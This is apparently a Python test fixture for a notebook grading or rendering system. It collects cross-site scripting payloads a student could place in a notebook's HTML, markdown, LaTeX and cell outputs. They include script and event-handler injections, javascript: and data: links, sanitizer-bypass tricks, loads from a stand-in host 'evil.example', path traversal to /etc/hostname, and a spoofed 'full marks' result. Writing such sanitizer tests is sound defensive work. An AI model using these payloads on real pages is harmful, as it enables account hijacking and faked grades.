"""What a student could put into a sheet to run or fetch something on the page of whoever opens it."""

# Each sets `window.ran`, opens a dialog, navigates, or fetches: a browser test sees all four.
HIT = "window.top.ran=1"
AWAY = "https://evil.example/x"

IN_HTML = {
    "script": f"<script>{HIT}</script>",
    "remote script": f'<script src="{AWAY}.js"></script>',
    "module script": f'<script type="module">import "{AWAY}.mjs"; {HIT}</script>',
    "handler": f'<img src="x" onerror="{HIT}">',
    "handler without quotes": f"<img src=x onerror={HIT}>",
    "handler after a slash": f"<svg/onload={HIT}>",
    "handler of a detail": f'<details open ontoggle="{HIT}"><summary>s</summary>d</details>',
    "handler of a focus": f'<input autofocus onfocus="{HIT}">',
    "handler of an animation": f'<style>@keyframes k{{}}</style><b style="animation:k 1s" onanimationstart="{HIT}">x</b>',
    "media": f'<video src=x onerror="{HIT}"></video><audio src="{AWAY}.mp3" autoplay></audio>',
    "javascript link": f'<a class="bait" href="javascript:{HIT}">bait</a>',
    "javascript link in disguise": f'<a class="bait" href="java&#x09;script:{HIT}">bait</a>',
    "data link": f'<a class="bait" href="data:text/html,<script>{HIT}</script>">bait</a>',
    "vbscript link": '<a class="bait" href="vbscript:msgbox(1)">bait</a>',
    "frame": f'<iframe src="{AWAY}"></iframe><iframe srcdoc="<script>{HIT}</script>"></iframe>',
    "script frame": f'<iframe src="javascript:{HIT}"></iframe>',
    "object": f'<object data="{AWAY}"></object><embed src="{AWAY}"><object data="data:text/html,<script>{HIT}</script>"></object>',
    "refresh": f'<meta http-equiv="refresh" content="0;url={AWAY}">',
    "base": f'<base href="{AWAY}/">',
    "link": f'<link rel="stylesheet" href="{AWAY}.css"><link rel="prefetch" href="{AWAY}">',
    "form": f'<form action="{AWAY}"><input name="q" value="1"><button class="bait">bait</button></form>',
    "form with a script": f'<form action="javascript:{HIT}"><button class="bait">bait</button></form>',
    "style": f"<style>body{{display:none}} @import url({AWAY}.css);</style>",
    "style attribute": f'<p style="position:fixed;inset:0;background:url({AWAY}.png)">over all</p>',
    "remote picture": f'<img src="{AWAY}.png" srcset="{AWAY}2.png 2x"><picture><source srcset="{AWAY}.webp"></picture>',
    "svg": f'<svg><script>{HIT}</script><image href="{AWAY}.png"/><foreignObject><img src=x onerror="{HIT}"></foreignObject></svg>',
    "animated svg": f'<svg><a xlink:href="javascript:{HIT}"><text>bait</text></a><animate onbegin="{HIT}" attributeName="x"/></svg>',
    "svg picture": f'<img src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22{HIT}%22/>">',
    "math": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={HIT}&gt;">',
    "math link": f'<math><mrow href="javascript:{HIT}" class="bait"><mi>x</mi></mrow></math>',
    "comment": f"<!--><img src=x onerror={HIT}>-->",
    "no script": f'<noscript><p title="</noscript><img src=x onerror={HIT}>"></noscript>',
    "template": f"<template><script>{HIT}</script></template>",
    "broken tag": f"<<script>script>{HIT}<</script>/script>",
    "way out": f"</p></div></section></main></body></html><script>{HIT}</script>\"'><script>{HIT}</script>",
    "text area": f"<textarea></textarea><img src=x onerror={HIT}></textarea>",
    "custom element": f'<x-widget onclick="{HIT}" class="bait" is="x">bait</x-widget>',
    "borrowed looks": '<div class="test full" id="cell-1"><p class="state">Right · 4 of 4 points</p></div>',
}
IN_MARKDOWN = {
    "link": f"[bait](javascript:{HIT})",
    "link by reference": f"[bait][1]\n\n[1]: javascript:{HIT}",
    "link in brackets": f"<javascript:{HIT}>",
    "data link": "[bait](data:text/html;base64,PHNjcmlwdD53aW5kb3cudG9wLnJhbj0xPC9zY3JpcHQ+)",
    "picture": f"![picture]({AWAY}.png)",
    "picture of the server": "![picture](../../../../../etc/hostname) ![picture](file:///etc/hostname)",
    "missing attachment": "![picture](attachment:none.png)",
    "title": f'![picture](x "\\" onerror=\\"{HIT}")',
    "formula": f"$\\text{{<script>{HIT}</script>}}$ $\\text{{<img src=x onerror={HIT}>}}$",
    "linked formula": f"$\\href{{javascript:{HIT}}}{{bait}}$",
    "styled formula": f"$\\style{{background:url({AWAY}.png)}}{{x}} \\class{{test}}{{y}}$",
    "formula in a description": f'![$x" onerror="{HIT}$](x.png)',
    "formula without end": "$\\frac{$ and $" + "{" * 1500 + "$",
    "code": f"```html\n<script>{HIT}</script>\n```\n\n```mermaid\ngraph TD; A[<img src=x onerror={HIT}>]\n```",
    "heading": f"# <img src=x onerror={HIT}>",
    "table": f"| <script>{HIT}</script> |\n|---|\n| <img src=x onerror={HIT}> |",
}
# What a cell of the sheet can do in the kernel. Every one is a cell's source.
SHOW = "from IPython.display import *\n"
PICTURE = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{HIT}"><script>{HIT}</script><image href="{AWAY}.png"/></svg>'
BROKEN_OUT = {"data": {"image/png": f'x" onerror="{HIT}'}, "metadata": {"image/png": {"alt": f'"><script>{HIT}</script>'}}}
ISOLATED = {"data": {"text/html": f"<script>{HIT}</script>"}, "metadata": {"text/html": {"isolated": True}}}
IN_OUTPUTS = {
    "html": f"{SHOW}for page in {list(IN_HTML.values())!r}:\n    display(HTML(page))",
    "markdown": f"{SHOW}for text in {list(IN_MARKDOWN.values())!r}:\n    display(Markdown(text))",
    "javascript": f"{SHOW}display(Javascript({HIT!r}))",
    "svg": f"{SHOW}display({{'image/svg+xml': {PICTURE!r}}}, raw=True)",
    "picture": f"{SHOW}display({BROKEN_OUT['data']!r}, metadata={BROKEN_OUT['metadata']!r}, raw=True)",
    "isolated": f"{SHOW}display({ISOLATED['data']!r}, metadata={ISOLATED['metadata']!r}, raw=True)",
    "frame": f"{SHOW}display(IFrame('{AWAY}', 100, 100))",
    "widget": f"import anywidget\nclass W(anywidget.AnyWidget):\n    _esm = '{HIT}; export default {{render() {{ {HIT} }}}}'\nW()",
    "html widget": f"import ipywidgets\nipywidgets.HTML('<img src=x onerror=\"{HIT}\">')",
    "latex": f"{SHOW}display(Latex(r'$\\href{{javascript:{HIT}}}{{bait}}$ <script>{HIT}</script>'))",
    "strange": f"{SHOW}display({{'text/html': 7, 'text/plain': {{'a': 1}}, 'application/pdf': 'x'}}, raw=True)",
    "printed": f"print('<script>{HIT}</script>\\x1b[31m\\x1b]8;;{AWAY}\\x1b')",
    "raised": f"class E(Exception): pass\nE.__name__ = '<script>{HIT}</script>'\nraise E('<img src=x onerror={HIT}>')",
}
